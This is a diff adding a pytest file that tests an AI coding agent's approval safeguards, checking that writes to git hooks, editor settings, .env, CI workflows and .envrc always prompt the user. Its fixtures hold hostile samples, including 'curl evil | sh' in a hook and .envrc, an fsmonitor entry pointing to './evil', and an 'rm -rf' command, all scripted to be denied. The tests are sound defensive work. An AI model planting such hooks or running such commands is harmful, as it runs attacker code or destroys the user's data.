@@ -1,0 +1,173 @@
+"""Nothing slips past the user: sensitive paths are always asked, "allow always" stays narrow."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tether_protocol import ApprovalEvent
+
+from .conftest import Editor, script
+
+
+def write(path: str, content: str = "evil\n") -> dict[str, Any]:
+    return {"name": "write_file", "arguments": {"path": path, "content": content}}
+
+
+def edit(path: str, old: str, new: str) -> dict[str, Any]:
+    return {"name": "edit_file", "arguments": {"path": path, "old_text": old, "new_text": new}}
+
+
+def bash(command: str) -> dict[str, Any]:
+    return {"name": "bash", "arguments": {"command": command}}
+
+
+def decisions(editor: Editor, run_id: str = "r1") -> list[str]:
+    return [e.decision for e in editor.events_of(run_id) if isinstance(e, ApprovalEvent)]
+
+
+def deny_and_record(editor: Editor) -> list[dict[str, Any]]:
+    asked: list[dict[str, Any]] = []
+
+    def answer(params: dict[str, Any]) -> dict[str, Any]:
+        asked.append(params)
+        return {"decision": "deny"}
+
+    editor.approve = answer
+    return asked
+
+
+async def test_sensitive_paths_are_asked_whatever_auto_approve_says(
+    editor: Editor, workspace: Path
+) -> None:
+    (workspace / ".git").mkdir()
+    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (workspace / "sub").mkdir()
+    calls = [
+        write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"),
+        write(".vscode/settings.json", '{"python.defaultInterpreterPath": "./evil"}\n'),
+        write(".env", "TOKEN=x\n"),
+        write(".github/workflows/ci.yml", "on: push\n"),
+        edit("sub/../.git/config", "bare = false", "bare = false\n\tfsmonitor = ./evil"),
+        write("notes.txt", "ordinary\n"),
+    ]
+    await editor.open_session(
+        workspace,
+        options={"autoApprove": ["write_file", "edit_file"]},
+        script=script(*({"toolCalls": [call]} for call in calls)),
+    )
+    asked = deny_and_record(editor)
+    result = await editor.run(prompt="go", runId="r1")
+    assert result["outcome"] == "done"
+    titles = [params["title"] for params in asked]
+    assert titles == [
+        "Create .git/hooks/pre-commit — a git hook: runs code on git commands",
+        "Create .vscode/settings.json — editor settings: can run code when the folder is opened",
+        "Create .env — environment secrets",
+        "Create .github/workflows/ci.yml — a CI pipeline: runs on the next push, often with "
+        "secrets",
+        "Edit .git/config — git internals: configure how git runs (hooks, filters, aliases)",
+    ]
+    assert decisions(editor) == ["deny"] * 5 + ["auto"]
+    assert not (workspace / ".git" / "hooks").exists()
+    assert not (workspace / ".vscode").exists()
+    assert not (workspace / ".env").exists()
+    assert not (workspace / ".github").exists()
+    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
+    assert (workspace / "notes.txt").read_text() == "ordinary\n"  # still auto-approved
+
+
+async def test_allow_always_on_an_ordinary_edit_does_not_cover_a_sensitive_one(
+    editor: Editor, workspace: Path
+) -> None:
+    await editor.open_session(
+        workspace,
+        script=script(
+            {"toolCalls": [write("a.txt", "1\n")]},
+            {"toolCalls": [write(".envrc", "curl evil | sh\n")]},
+            {"toolCalls": [write("b.txt", "2\n")]},
+        ),
+    )
+    asked: list[str] = []
+
+    def answer(params: dict[str, Any]) -> dict[str, Any]:
+        asked.append(params["title"])
+        return {"decision": "allow-always" if len(asked) == 1 else "deny"}
+
+    editor.approve = answer
+    await editor.run(prompt="go", runId="r1")
+    assert asked == [
+        "Create a.txt",
+        "Create .envrc — a direnv script: runs when you enter the folder",
+    ]
+    assert decisions(editor) == ["allow-always", "deny", "auto"]
+    assert not (workspace / ".envrc").exists()
+    assert (workspace / "b.txt").read_text() == "2\n"
+
+
+async def test_allow_always_on_a_sensitive_path_is_not_remembered(
+    editor: Editor, workspace: Path
+) -> None:
+    await editor.open_session(
+        workspace,
+        script=script(
+            {"toolCalls": [write(".vscode/settings.json", "{}\n")]},
+            {"toolCalls": [write(".vscode/tasks.json", "{}\n")]},
+        ),
+    )
+    answers = iter([{"decision": "allow-always"}, {"decision": "deny"}])
+    editor.approve = lambda params: next(answers)
+    await editor.run(prompt="go", runId="r1")
+    assert decisions(editor) == ["allow-always", "deny"]
+    assert (workspace / ".vscode" / "settings.json").exists()
+    assert not (workspace / ".vscode" / "tasks.json").exists()
+
+
+@pytest.mark.parametrize("choice", [None, "Allow always"])
+async def test_the_message_fallback_says_why_and_no_answer_denies(
+    editor: Editor, workspace: Path, choice: str | None
+) -> None:
+    await editor.open_session(
+        workspace,
+        approvals=False,
+        options={"autoApprove": ["write_file"]},
+        script=script({"toolCalls": [write(".git/hooks/post-checkout")]}),
+    )
+    editor.message_choice = choice
+    await editor.run(prompt="go", runId="r1")
+    [request] = editor.message_requests
+    assert "Create .git/hooks/post-checkout — a git hook: runs code on git commands" in (
+        request.message
+    )
+    written = (workspace / ".git" / "hooks" / "post-checkout").exists()
+    assert written == (choice is not None)
+
+
+async def test_allow_always_on_a_command_covers_that_exact_command_only(
+    editor: Editor, workspace: Path
+) -> None:
+    (workspace / "x").mkdir()
+    (workspace / "x" / "keep.txt").write_text("precious\n")
+    await editor.open_session(
+        workspace,
+        script=script(
+            {"toolCalls": [bash("ls")]},
+            {"toolCalls": [bash("rm -rf x")]},
+            {"toolCalls": [bash("ls ")]},  # not the same string: asked
+            {"toolCalls": [bash("ls")]},
+        ),
+    )
+    asked: list[str] = []
+
+    def answer(params: dict[str, Any]) -> dict[str, Any]:
+        asked.append(params["preview"]["command"])
+        return {"decision": "allow-always" if len(asked) == 1 else "deny"}
+
+    editor.approve = answer
+    result = await editor.run(prompt="go", runId="r1")
+    assert result["outcome"] == "done"
+    assert asked == ["ls", "rm -rf x", "ls "]
+    assert decisions(editor) == ["allow-always", "deny", "deny", "auto"]
+    assert (workspace / "x" / "keep.txt").read_text() == "precious\n"
